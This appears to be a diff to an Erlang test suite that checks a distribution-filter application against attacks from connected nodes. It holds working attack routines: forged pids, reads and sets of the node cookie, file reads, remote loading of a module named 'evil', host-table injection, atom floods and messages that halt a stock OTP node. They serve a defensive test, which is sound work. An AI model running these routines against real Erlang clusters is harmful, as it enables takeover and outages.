+                      [?CHECK({NS, ping_works}, {ok, pong}, call(A, try_erpc, [NS, net_adm, ping, [NT]])),
+                       chk({NS, connected_to_target}, NT, member(NT, safe_call(S, erlang, nodes, [])))]
+              end),
+    verdict(Target ++ Healthy ++ Control).
+
+%% ------------------------------------------------------------------
 %% Checks (test runner side)
 %% ------------------------------------------------------------------
 
@@ -357,7 +901,12 @@ check_erpc_refused(#{multicall := MC, call := Calls, rpc_call := Rpcs,
     ?assertEqual(lists:duplicate(N, unauthorized), Downs),
     ?assertEqual(lists:duplicate(N, unauthorized), Exits).
 
+%% The connection ids of NA's channels on Targets, once the targets have
+%% them (connect/2 may return before the target has registered its end).
 conn_ids(Targets, NA) ->
+    [ok = ktls_ct_nodes:wait_until(
+            fun() -> is_map(ktls_ct_nodes:call(T, ktls_filter, channel_inspect, [NA])) end, 5000)
+     || {T, _} <- Targets],
     maps:from_list([{N, conn_id(T, NA)} || {T, N} <- Targets]).
 
 conn_id(T, NA) ->
@@ -397,6 +946,133 @@ evil_module() ->
              {function, 3, evil, 0, [{clause, 3, [], [], [{atom, 3, loaded}]}]}],
     {ok, Mod, Bin} = compile:forms(Forms, []),
     {Mod, Bin}.
+
+%% The same under the name evil_name(How).
+evil_module_for(How) ->
+    Name = evil_name(How),
+    Forms = [{attribute, 1, module, Name},
+             {attribute, 2, export, [{evil, 0}]},
+             {function, 3, evil, 0, [{clause, 3, [], [], [{atom, 3, loaded}]}]}],
+    {ok, Name, Bin} = compile:forms(Forms, []),
+    {Name, Bin}.
+
+evil_name(How) -> list_to_atom("ktls_attack_evil_" ++ atom_to_list(How)).
+
+%% The host name and address pid_bypass/1 adds to inet_db's hosts table
+%% (one address each: adding a name to an address replaces its names).
+evil_host(How) -> "ktls-evil-" ++ atom_to_list(How) ++ ".example".
+
+evil_ip(name) -> {10, 66, 6, 1};
+evil_ip(pid) -> {10, 66, 6, 2};
+evil_ip(forged) -> {10, 66, 6, 3}.
+
+%% What system_attacks/5 needs to address the processes of Pids (name =>
+%% pid, read on the target): the pids themselves, or for forged ones their
+%% numbers (init as <0.0.0>: the attacker does not need to have seen it).
+dest_info(forged, Pids) ->
+    (maps:map(fun(_, P) -> pid_numbers(P) end, Pids))#{init => {0, 0}};
+dest_info(_, Pids) ->
+    Pids.
+
+%% {Id, Serial} of a pid: "<N.Id.Serial>".
+pid_numbers(Pid) ->
+    [_, Id, Serial] = string:lexemes(pid_to_list(Pid), "<.>"),
+    {list_to_integer(Id), list_to_integer(Serial)}.
+
+%% Every attack of system_attacks/5 refused: the calls answered
+%% {error, unauthorized} (sys calls may exit with it instead), code_server
+%% and init silent.
+refused_checks(Node, How, R) ->
+    [chk({Node, How, K}, maps:get(K, R), refused_call(maps:get(K, R)))
+     || K <- [write_file, read_file, set_env, which_applications, get_cookie, set_cookie, add_host,
+              which_children, terminate_child, restart_child, delete_child, get_status, suspend,
+              add_handler, which_handlers]] ++
+        [?CHECK({Node, How, code_load}, {ok, no_reply}, maps:get(code_load, R)),
+         ?CHECK({Node, How, init_get_arguments}, {ok, no_reply}, maps:get(init_get_arguments, R))].
+
+refused_call({ok, {error, unauthorized}}) -> true;
+refused_call({exit, {unauthorized, _}}) -> true;
+refused_call(_) -> false.
+
+%% Every attack of system_attacks/5 done, on a stock node.
+stock_checks(Node, How, R) ->
+    G = fun(K) -> maps:get(K, R) end,
+    [?CHECK({Node, How, write_file}, {ok, ok}, G(write_file)),
+     ?CHECK({Node, How, read_file}, {ok, {ok, _}}, G(read_file)),
+     ?CHECK({Node, How, code_load}, {ok, {reply, {module, _}}}, G(code_load)),
+     ?CHECK({Node, How, set_env}, {ok, ok}, G(set_env)),
+     ?CHECK({Node, How, which_applications}, {ok, [_ | _]}, G(which_applications)),
+     chk({Node, How, get_cookie}, G(get_cookie),
+         case G(get_cookie) of {ok, C} -> is_atom(C); _ -> false end),
+     ?CHECK({Node, How, set_cookie}, {ok, true}, G(set_cookie)),
+     ?CHECK({Node, How, add_host}, {ok, ok}, G(add_host)),
+     ?CHECK({Node, How, which_children}, {ok, [_ | _]}, G(which_children)),
+     ?CHECK({Node, How, terminate_child}, {ok, ok}, G(terminate_child)),
+     ?CHECK({Node, How, restart_child}, {ok, {ok, _}}, G(restart_child)),
+     ?CHECK({Node, How, delete_child}, {ok, {error, running}}, G(delete_child)),
+     ?CHECK({Node, How, get_status}, {ok, {status, _, _, _}}, G(get_status)),
+     ?CHECK({Node, How, suspend}, {ok, ok}, G(suspend)),
+     chk({Node, How, add_handler}, G(add_handler),
+         lists:member(G(add_handler), [{ok, ok}, {ok, {'EXIT', already_present}}])),
+     ?CHECK({Node, How, which_handlers}, {ok, [_ | _]}, G(which_handlers)),
+     ?CHECK({Node, How, init_get_arguments}, {ok, {reply, [_ | _]}}, G(init_get_arguments))].
+
+%% The kind of a message alias_sends/1 sent (?ALIAS_KINDS).
+alias_kind({'$gen_call', {_, [alias | _]}, _}) -> gen_call_alias;
+alias_kind({'$gen_call', _, _}) -> gen_call;
+alias_kind({'$gen_cast', _}) -> gen_cast;
+alias_kind({system, _, _}) -> system;
+alias_kind({'EXIT', _, _}) -> exit;
+alias_kind({'DOWN', _, _, _, _}) -> down;
+alias_kind({io_request, _, _, _}) -> io_request;
+alias_kind({code_call, _, _}) -> code_call;
+alias_kind({ktls_alias, hello}) -> app;
+alias_kind({Ref, _}) when is_reference(Ref) -> reply;
+alias_kind({[alias | _], _}) -> alias_reply;
+alias_kind(Other) -> {other, Other}.
+
+atom_count(P) -> ktls_ct_nodes:call(P, erlang, system_info, [atom_count]).
+
+%% [{Key, Before, After}] of the keys whose values differ (After not a
+%% map: [{all, After}]).
+map_diff(M0, M1) when is_map(M1) ->
+    [{K, V, maps:get(K, M1, missing)} || {K, V} <- lists:sort(maps:to_list(M0)),
+                                         maps:get(K, M1, missing) =/= V] ++
+        [{K, missing, V} || {K, V} <- lists:sort(maps:to_list(M1)), not maps:is_key(K, M0)];
+map_diff(_, Other) ->
+    [{all, Other}].
+
+member(X, L) when is_list(L) -> lists:member(X, L);
+member(_, _) -> false.
+
+chk(Name, Actual, Ok) when is_boolean(Ok) -> {Name, Actual, Ok}.
+
+%% Fun's value, or {Class, Reason, Where} if it failed (Where: the frame
+%% of this module it failed in, if any).
+safe(Fun) ->
+    try Fun()
+    catch Class:Reason:Stack ->
+            {Class, Reason, [{F, A, proplists:get_value(line, L)} || {?MODULE, F, A, L} <- Stack]}
+    end.
+
+safe_call(P, M, F, A) -> safe(fun() -> ktls_ct_nodes:call(P, M, F, A, 15000) end).
+
+%% The checks Fun returns, or one failed check named Name if it crashed.
+phase(Name, Fun) ->
+    try Fun()
+    catch Class:Reason:Stack -> [{{phase, Name}, {Class, Reason, Stack}, false}]
+    end.
+
+%% Logs every check (PASS/FAIL) and fails the case naming the failed ones.
+verdict(Checks) ->
+    Lines = [io_lib:format("~s ~p: ~P~n", [case Ok of true -> "PASS"; false -> "FAIL" end,
+                                           Name, Actual, 16])
+             || {Name, Actual, Ok} <- Checks],
+    ct:pal("~s", [Lines]),
+    case [Name || {Name, _, false} <- Checks] of
+        [] -> ok;
+        Failed -> ct:fail({failed_checks, Failed})
+    end.
 
 %% ------------------------------------------------------------------
 %% Nodes
@@ -754,6 +1430,7 @@ io_attacks(Dir, Node, Servers) ->
 
 %% @doc An io request to Node's standard_error that calls a function, sent
 %% from here on behalf of a process and a reference of Third.
+-spec third_node_io_request(file:filename(), node(), node()) -> ok.
 third_node_io_request(Dir, Node, Third) ->
     From = erpc:call(Third, erlang, whereis, [init]),
     Ref = erpc:call(Third, erlang, make_ref, []),
@@ -831,3 +1508,354 @@ io_request(Dest, Request) ->
     after ?FAST_MS ->
             hung
     end.
+
+%% ------------------------------------------------------------------
+%% On the nodes: system processes, forged pids, signals, aliases, atoms,
+%% global, ping
+%% ------------------------------------------------------------------
+
+%% @doc OTP's system processes of this node, by name (registered names;
+%% kernel_config, user_sup, the kernel application master and its child,
+%% the literal area collector and, when running, ktls_filter's application
+%% master have no name: named after what they are).
+-spec system_pids() -> #{atom() => pid()}.
+system_pids() ->
+    Named = [init, erts_code_purger, erl_prim_loader, logger, application_controller, kernel_sup,
+             code_server, inet_db, rex, global_name_server, global_group, net_sup, erl_epmd, auth,
+             net_kernel, file_server_2, erl_signal_server, standard_error_sup, standard_error, user,
+             kernel_refc, kernel_safe_sup, logger_sup, logger_proxy, logger_handler_watcher,
+             socket_registry],
+    Children = supervisor:which_children(kernel_sup),
+    Child = fun(Id) -> {Id, P, _, _} = lists:keyfind(Id, 1, Children), P end,
+    Master = application_controller:get_master(kernel),
+    {links, Links} = process_info(Master, links),
+    [StartIt] = [P || P <- Links, is_pid(P),
+                      process_info(P, initial_call) =:= {initial_call, {application_master, start_it, 4}}],
+    [Collector] = [P || P <- processes(),
+                        process_info(P, initial_call) =:=
+                            {initial_call, {erts_literal_area_collector, start, 0}}],
+    Ktls = [{ktls_filter_master, M} || M <- [application_controller:get_master(ktls_filter)], is_pid(M)],
+    maps:from_list([{N, whereis(N)} || N <- Named, is_pid(whereis(N))] ++
+                       [{kernel_config, Child(kernel_config)}, {user_sup, Child(user)},
+                        {kernel_master, Master}, {kernel_master_child, StartIt},
+                        {literal_collector, Collector} | Ktls]).
+
+%% @doc The pid of a process of Node built from its numbers and the
+%% creation of Node's current incarnation (NEW_PID_EXT by hand).
+-spec forge_pid(node(), non_neg_integer(), non_neg_integer(), non_neg_integer()) -> pid().
+forge_pid(Node, Id, Serial, Creation) ->
+    Name = atom_to_binary(Node, utf8),
+    Atom = case byte_size(Name) of
+               L when L < 256 -> <<119, L:8, Name/binary>>;
+               L -> <<118, L:16, Name/binary>>
+           end,
+    binary_to_term(<<131, 88, Atom/binary, Id:32, Serial:32, Creation:32>>).
+
+%% @doc The creation in a pid's external term format.
+-spec creation(pid()) -> non_neg_integer().
+creation(Pid) ->
+    <<131, 88, Rest/binary>> = term_to_binary(Pid),
+    Skip = case Rest of
+               <<119, L:8, _/binary>> -> 2 + L;
+               <<115, L:8, _/binary>> -> 2 + L;
+               <<118, L:16, _/binary>> -> 3 + L;
+               <<100, L:16, _/binary>> -> 3 + L
+           end,
+    <<_:Skip/binary, _Id:32, _Serial:32, Creation:32>> = Rest,
+    Creation.
+
+%% @doc Node's creation, from the pid of its application server (any pid
+%% of Node an attacker gets would do).
+-spec target_creation(node()) -> non_neg_integer().
+target_creation(Node) ->
+    creation(gen_server:call({ktls_attack_server, Node}, self_pid, ?FAST_MS)).
+
+%% Name => destination: {Name, Node}, the pid, or a pid built here.
+dests(Node, name, Info) ->
+    maps:map(fun(N, _) -> {N, Node} end, Info);
+dests(_Node, pid, Info) ->
+    Info;
+dests(Node, forged, Info) ->
+    Creation = target_creation(Node),
+    maps:map(fun(_, {Id, Serial}) -> forge_pid(Node, Id, Serial, Creation) end, Info).
+
+%% @doc Runs each {Key, Fun} (or {Key, Fun, Ms}) in a process of its own,
+%% all at once; Key => what bounded/2 gives (Ms ?FAST_MS unless given).
+-spec parallel([{term(), fun(() -> term())} | {term(), fun(() -> term()), timeout()}]) -> map().
+parallel(Jobs) ->
+    Self = self(),
+    Tag = make_ref(),
+    Keys = [begin
+                {K, F, Ms} = case Job of
+                                 {K0, F0} -> {K0, F0, ?FAST_MS};
+                                 {_, _, _} -> Job
+                             end,
+                _ = spawn(fun() -> Self ! {Tag, K, bounded(F, Ms)} end),
+                K
+            end || Job <- Jobs],
+    maps:from_list([receive {Tag, K, R} -> {K, R} after 60000 -> {K, lost} end || K <- Keys]).
+
+%% @doc pid_bypass/1's requests to Node's system processes, addressed How
+%% (Info: see dest_info/2), all at once; Key => what each caller got, and
+%% dests => the destinations used. Suspended kernel_refc is resumed.
+-spec system_attacks(file:filename(), node(), name | pid | forged, map(), {module(), binary()}) -> map().
+system_attacks(Dir, Node, How, Info, {Mod, Bin}) ->
+    Dests = dests(Node, How, Info),
+    D = fun(N) -> maps:get(N, Dests) end,
+    Call = fun(N, Req) -> fun() -> gen_server:call(D(N), Req, infinity) end end,
+    File = filename:join(Dir, "file_server_" ++ atom_to_list(How) ++ "@" ++ atom_to_list(Node)),
+    Children = fun() ->
+                       [bounded(Call(kernel_sup, {Op, kernel_config}), ?FAST_MS)
+                        || Op <- [terminate_child, restart_child, delete_child]]
+               end,
+    CodeCall = fun() ->
+                       D(code_server) ! {code_call, self(),
+                                         {load_binary, Mod, atom_to_list(Mod) ++ ".erl", Bin}},
+                       receive {code_server, Reply} -> {reply, Reply} after 1000 -> no_reply end
+               end,
+    InitCall = fun() ->
+                       D(init) ! {self(), get_arguments},
+                       receive {init, Args} -> {reply, Args} after 1000 -> no_reply end
+               end,
+    R = parallel([{write_file, Call(file_server_2, {write_file, File, <<"ktls">>})},
+                  {read_file, Call(file_server_2, {read_file, "/proc/self/cmdline"})},
+                  {code_load, CodeCall},
+                  {set_env, Call(application_controller, {set_env, kernel, ktls_attack_env, How, []})},
+                  {which_applications, Call(application_controller, which_applications)},
+                  {get_cookie, Call(auth, get_our_cookie)},
+                  {set_cookie, Call(auth, {set_our_cookie, ktls_evil_cookie})},
+                  {add_host, Call(inet_db, {add_host, evil_ip(How), [evil_host(How)]})},
+                  {which_children, Call(kernel_sup, which_children)},
+                  {children, Children, 3 * ?FAST_MS + 1000},
+                  {get_status, fun() -> sys:get_status(D(file_server_2)) end},
+                  {suspend, fun() -> sys:suspend(D(kernel_refc)) end},
+                  {add_handler, fun() -> gen_event:add_handler(D(erl_signal_server), ?EVIL_HANDLER, [])
+                                end},
+                  {which_handlers, fun() -> gen_event:which_handlers(D(erl_signal_server)) end},
+                  {init_get_arguments, InitCall}]),
+    _ = case maps:get(suspend, R) of
+            {ok, ok} -> bounded(fun() -> sys:resume(D(kernel_refc)) end, ?FAST_MS);
+            _ -> ok
+        end,
+    Ops = case maps:get(children, R) of
+              {ok, [Te, Re, De]} -> #{terminate_child => Te, restart_child => Re, delete_child => De};
+              Other -> #{terminate_child => Other, restart_child => Other, delete_child => Other}
+          end,
+    maps:merge(maps:remove(children, R), Ops#{dests => Dests}).
+
+%% @doc auth's handler of messages from nodes with another cookie
+%% (auth.erl handle_info/2): for {From, badcookie, net_kernel, {From,
+%% spawn, M, F, A, GL}} it disconnects node(From), whoever From is.
+-spec auth_badcookie(node(), name | pid | forged, map(), pid()) -> ok.
+auth_badcookie(Node, How, Info, From) ->
+    Auth = maps:get(auth, dests(Node, How, maps:with([auth], Info))),
+    Auth ! {From, badcookie, net_kernel, {From, spawn, erlang, node, [], group_leader()}},
+    ok.
+
+%% @doc Messages that halt a stock OTP 25 node (Which: all, or the keys to
+%% send): auth's badcookie message for a name it does not know (auth
+%% crashes: its state is not the list it takes it for; net_sup and
+%% kernel_sup give up), {'EXIT', AppCtrl, kill} to init (a kernel process
+%% "died": init halts), {'EXIT', Parent, kill} to kernel_safe_sup,
+%% {'EXIT', Child, kill} to kernel_sup (restart intensity 0), {stop, stop}
+%% to init, and with all sys:terminate/3 of kernel_refc, whose result is
+%% returned. Data: the pids the messages name.
+-spec halting_attacks(node(), name | pid | forged, map(), map(), all | [atom()]) -> map().
+halting_attacks(Node, How, Info, Data, Which) ->
+    Dests = dests(Node, How, Info),
+    D = fun(N) -> maps:get(N, Dests) end,
+    P = fun(N) -> maps:get(N, Data) end,
+    Sends = [{auth_crash, fun() -> D(auth) ! {self(), badcookie, ktls_attack_nobody, {ktls}} end},
+             {init_exit, fun() -> D(init) ! {'EXIT', P(application_controller), kill} end},
+             {safe_sup_parent_exit, fun() -> D(kernel_safe_sup) ! {'EXIT', P(kernel_sup), kill} end},
+             {kernel_sup_child_exit, fun() -> D(kernel_sup) ! {'EXIT', P(kernel_config), kill} end},
+             {init_stop, fun() -> D(init) ! {stop, stop} end}],
+    _ = [F() || {K, F} <- Sends, Which =:= all orelse lists:member(K, Which)],
+    case Which of
+        all -> #{sys_terminate => bounded(fun() -> sys:terminate(D(kernel_refc), kill, 2000) end,
+                                          ?FAST_MS)};
+        _ -> #{}
+    end.
+
+%% @doc The group leader of each process (dead if it is gone).
+-spec group_leaders(#{atom() => pid()}) -> #{atom() => pid() | dead}.
+group_leaders(Pids) ->
+    maps:map(fun(_, P) ->
+                     case process_info(P, group_leader) of
+                         {group_leader, G} -> G;
+                         undefined -> dead
+                     end
+             end, Pids).
+
+%% @doc The names of the processes linked to Pid.
+-spec linked_to(#{atom() => pid()}, pid()) -> [atom()].
+linked_to(Pids, Pid) ->
+    lists:sort([K || {K, P} <- maps:to_list(Pids), {links, Ls} <- [process_info(P, links)],
+                     lists:member(Pid, Ls)]).
+
+-spec alive(#{atom() => pid()}) -> #{atom() => boolean()}.
+alive(Pids) ->
+    maps:map(fun(_, P) -> is_process_alive(P) end, Pids).
+
+%% @doc group_leader/2: this node's application server becomes the group
+%% leader of each of Pids.
+-spec signal_group_leader([pid()]) -> ok.
+signal_group_leader(Pids) ->
+    Leader = whereis(ktls_attack_server),
+    _ = [group_leader(Leader, P) || P <- Pids],
+    ok.
+
+%% @doc A process linked to each of Pids; it exits when stop_linker/2 says.
+-spec start_linker([pid()]) -> pid().
+start_linker(Pids) ->
+    Parent = self(),
+    Ref = make_ref(),
+    L = spawn(fun() ->
+                      _ = [link(P) || P <- Pids],
+                      Parent ! {Ref, linked},
+                      receive {die, Reason} -> exit(Reason) end
+              end),
+    receive {Ref, linked} -> L after ?FAST_MS -> error(linker) end.
+
+-spec stop_linker(pid(), term()) -> ok.
+stop_linker(L, Reason) ->
+    MRef = monitor(process, L),
+    L ! {die, Reason},
+    receive {'DOWN', MRef, process, L, _} -> ok after ?FAST_MS -> error(linker_stop) end.
+
+-spec signal_exit([pid()], term()) -> ok.
+signal_exit(Pids, Reason) ->
+    _ = [exit(P, Reason) || P <- Pids],
+    ok.
+
+%% @doc exit/2 to pids of Node built here from {Name, {Id, Serial}}; the
+%% pids built.
+-spec signal_exit_forged(node(), [{atom(), {non_neg_integer(), non_neg_integer()}}], term()) ->
+          [{atom(), pid()}].
+signal_exit_forged(Node, Ids, Reason) ->
+    Creation = target_creation(Node),
+    Pids = [{K, forge_pid(Node, Id, Serial, Creation)} || {K, {Id, Serial}} <- Ids],
+    _ = [exit(P, Reason) || {_, P} <- Pids],
+    Pids.
+
+%% @doc Sends Dest one message of each shape of ?ALIAS_KINDS, the replies
+%% with Tag (a reference of Dest's node: a reply to a call made there);
+%% what came back within 500 ms.
+-spec alias_sends(reference() | pid() | {atom(), node()}, reference()) -> [term()].
+alias_sends(Dest, Tag) ->
+    Self = self(),
+    Ref = make_ref(),
+    Shapes = [{'$gen_call', {Self, Ref}, ktls_alias},
+              {'$gen_call', {Self, [alias | Ref]}, ktls_alias},
+              {'$gen_cast', ktls_alias},
+              {system, {Self, Ref}, get_status},
+              {'EXIT', Self, ktls_alias},
+              {'DOWN', Ref, process, Self, ktls_alias},
+              {io_request, Self, Ref, {put_chars, unicode, "ktls_alias"}},
+              {code_call, Self, ktls_alias},
+              {Tag, ktls_alias},
+              {[alias | Tag], ktls_alias},
+              {ktls_alias, hello}],
+    _ = [Dest ! M || M <- Shapes],
+    collect(500).
+
+collect(Ms) ->
+    receive M -> [M | collect(Ms)]
+    after Ms -> []
+    end.
+
+%% @doc A gen_server call from here to the application server of Node.
+-spec echo_call(node(), term()) -> {ok, term()} | {exit, term()} | hung.
+echo_call(Node, Term) ->
+    bounded(fun() -> gen_server:call({ktls_attack_server, Node}, {echo, Term}, ?FAST_MS) end,
+            2 * ?FAST_MS).
+
+%% @doc Atoms Prefix ++ integer_to_list(I), From =< I < To, made here and
+%% sent to Node's application server, PerMsg a message; stops when Node is
+%% gone. Then a call to the server (all sent before it has arrived).
+-spec atom_flood(node(), string(), non_neg_integer(), non_neg_integer(), pos_integer()) -> map().
+atom_flood(Node, Prefix, From, To, PerMsg) ->
+    T0 = erlang:monotonic_time(millisecond),
+    Sent = atom_chunks(Node, Prefix, From, To, PerMsg, 0),
+    Sync = bounded(fun() -> gen_server:call({ktls_attack_server, Node}, {echo, synced}, 20000) end,
+                   25000),
+    #{sent => Sent, ms => erlang:monotonic_time(millisecond) - T0, sync => Sync}.
+
+atom_chunks(_Node, _Prefix, From, To, _PerMsg, Sent) when From >= To ->
+    Sent;
+atom_chunks(Node, Prefix, From, To, PerMsg, Sent) ->
+    case lists:member(Node, nodes()) of
+        false ->
+            Sent;
+        true ->
+            Last = min(From + PerMsg, To),
+            Atoms = [list_to_atom(Prefix ++ integer_to_list(I)) || I <- lists:seq(From, Last - 1)],
+            {ktls_attack_server, Node} ! {ktls_atoms, Atoms},
+            atom_chunks(Node, Prefix, Last, To, PerMsg, Sent + length(Atoms))
+    end.
+
+%% @doc How many of the atoms of atom_flood/5 exist on this node.
+-spec existing_atoms(string(), non_neg_integer(), non_neg_integer()) -> non_neg_integer().
+existing_atoms(Prefix, From, To) ->
+    lists:foldl(fun(I, N) ->
+                        try list_to_existing_atom(Prefix ++ integer_to_list(I)) of
+                            _ -> N + 1
+                        catch
+                            error:badarg -> N
+                        end
+                end, 0, lists:seq(From, To - 1)).
+
+%% @doc Registers {ktls_big, I, MiB of bytes} for this node's application
+%% server with global_name_server on Node by hand (its protocol:
+%% {register, Name, Pid, Method}): by name (I = 1), by pid (2), by the pid
+%% built from its numbers Ids (3), and as gen_server:multi_call with a
+%% timeout (4).
+-spec global_big_names(node(), pid(), {non_neg_integer(), non_neg_integer()}, pos_integer()) ->
+          map().
+global_big_names(Node, GlobalPid, {Id, Serial}, MiB) ->
+    Big = binary:copy(<<$g>>, MiB * ?MIB),
+    Holder = whereis(ktls_attack_server),
+    Method = fun global:random_exit_name/3,
+    Reg = fun(Dest, I) ->
+                  bounded(fun() ->
+                                  gen_server:call(Dest, {register, {ktls_big, I, Big}, Holder, Method},
+                                                  infinity)
+                          end, 30000)
+          end,
+    Forged = forge_pid(Node, Id, Serial, target_creation(Node)),
+    #{by_name => Reg({global_name_server, Node}, 1),
+      by_pid => Reg(GlobalPid, 2),
+      by_forged => Reg(Forged, 3),
+      forged_pid => Forged,
+      multi_call => bounded(fun() ->
+                                    gen_server:multi_call([Node], global_name_server,
+                                                          {register, {ktls_big, 4, Big}, Holder, Method},
+                                                          10000)
+                            end, 30000)}.
+
+%% @doc global:register_name/2 of {ktls_big, 5, MiB of bytes}.
+-spec global_register_big(pos_integer()) -> {ok, term()} | {exit, term()} | hung.
+global_register_big(MiB) ->
+    Big = binary:copy(<<$g>>, MiB * ?MIB),
+    Holder = whereis(ktls_attack_server),
+    bounded(fun() -> global:register_name({ktls_big, 5, Big}, Holder) end, 20000).
+
+%% @doc The I of every {ktls_big, I, _} name global has here.
+-spec big_global_names() -> [integer()].
+big_global_names() ->
+    lists:sort([I || {ktls_big, I, _} <- global:registered_names()]).
+
+%% @doc net_adm:ping(Third) run on Node through erpc, rpc and spawn, and
+%% net_adm:ping of N nodes that do not exist; erlang:node() through erpc.
+-spec ping_attacks(node(), node(), non_neg_integer()) -> map().
+ping_attacks(Node, Third, N) ->
+    Nobody = [list_to_atom("ktls_nobody_" ++ integer_to_list(I) ++ "@127.0.0.1")
+              || I <- lists:seq(1, N)],
+    #{erpc => try_erpc(Node, net_adm, ping, [Third]),
+      rpc => bounded(fun() -> rpc:call(Node, net_adm, ping, [Third], ?FAST_MS) end, 2 * ?FAST_MS),
+      spawn => bounded(fun() ->
+                               {P, M} = spawn_monitor(Node, net_adm, ping, [Third]),
+                               receive {'DOWN', M, process, P, Why} -> Why end
+                       end, ?FAST_MS),
+      nobody => [try_erpc(Node, net_adm, ping, [X]) || X <- Nobody],
+      node => try_erpc(Node, erlang, node, [])}.
